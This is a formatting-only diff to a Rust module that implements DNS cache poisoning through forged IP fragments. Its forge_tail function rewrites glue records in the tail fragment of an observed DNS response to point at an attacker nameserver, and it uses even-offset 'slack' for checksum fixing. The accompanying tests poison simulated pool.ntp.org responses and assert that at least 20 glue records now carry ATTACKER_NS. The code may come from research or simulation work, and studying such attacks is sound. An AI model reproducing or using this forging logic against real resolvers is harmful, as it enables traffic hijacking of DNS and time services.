@@ -121,7 +121,11 @@ pub fn first_fragment_payload(mtu: u16) -> usize {
 /// # Errors
 ///
 /// See [`ForgeError`].
-pub fn forge_tail(observed_dns: &[u8], mtu: u16, attacker_ns: Ipv4Addr) -> Result<ForgedTail, ForgeError> {
+pub fn forge_tail(
+    observed_dns: &[u8],
+    mtu: u16,
+    attacker_ns: Ipv4Addr,
+) -> Result<ForgedTail, ForgeError> {
     let udp_len = UDP_HEADER_LEN + observed_dns.len();
     let split = first_fragment_payload(mtu);
     if udp_len <= split {
@@ -129,8 +133,9 @@ pub fn forge_tail(observed_dns: &[u8], mtu: u16, attacker_ns: Ipv4Addr) -> Resul
     }
     let spans = walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
     // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d.
-    let in_tail =
-        |offset: usize, len: usize| offset + UDP_HEADER_LEN >= split && offset + len <= observed_dns.len();
+    let in_tail = |offset: usize, len: usize| {
+        offset + UDP_HEADER_LEN >= split && offset + len <= observed_dns.len()
+    };
     let glue: Vec<&RecordSpan> = glue_spans(&spans)
         .into_iter()
         .filter(|s| in_tail(s.rdata_offset, s.rdata_len) && s.rdata_len == 4)
@@ -140,11 +145,8 @@ pub fn forge_tail(observed_dns: &[u8], mtu: u16, attacker_ns: Ipv4Addr) -> Resul
     }
     // Slack: the last glue record whose RDATA starts at an even IP-payload
     // offset (fragment sums pair bytes from the even split boundary).
-    let slack = glue
-        .iter()
-        .rev()
-        .find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2))
-        .copied();
+    let slack =
+        glue.iter().rev().find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2)).copied();
     let Some(slack) = slack else {
         return Err(ForgeError::NoSlackCandidate);
     };
@@ -253,13 +255,15 @@ mod tests {
         // (b) The DNS payload decodes; glue now points at the attacker.
         let msg = Message::decode(&dgram.payload).expect("DNS decodes");
         assert_eq!(msg.header.id, 0x1234, "victim TXID preserved (fragment 1)");
-        let glue_addrs: Vec<Ipv4Addr> =
-            msg.additionals.iter().filter_map(|r| r.as_a()).collect();
+        let glue_addrs: Vec<Ipv4Addr> = msg.additionals.iter().filter_map(|r| r.as_a()).collect();
         let poisoned = glue_addrs.iter().filter(|a| **a == ATTACKER_NS).count();
         assert!(poisoned >= 20, "poisoned glue count {poisoned}");
         // The answer section (fragment 1) is the *real* rotation.
         assert_eq!(msg.answers.len(), 4);
-        assert!(msg.answers.iter().all(|r| r.as_a().map(|a| a.octets()[0] == 192).unwrap_or(false)));
+        assert!(msg
+            .answers
+            .iter()
+            .all(|r| r.as_a().map(|a| a.octets()[0] == 192).unwrap_or(false)));
     }
 
     #[test]
@@ -269,7 +273,8 @@ mod tests {
         let zone = pool_zone(servers, 23, NS);
         let mut srv = AuthServer::new(vec![zone]);
         let victim_query = Message::query(5, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
-        let victim_dns = srv.answer(&victim_query, &mut SmallRng::seed_from_u64(7)).encode().unwrap();
+        let victim_dns =
+            srv.answer(&victim_query, &mut SmallRng::seed_from_u64(7)).encode().unwrap();
         let udp = UdpDatagram::new(53, 45000, victim_dns).encode(NS, RESOLVER).unwrap();
         let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
         let frags = fragment(&full, 548).unwrap();
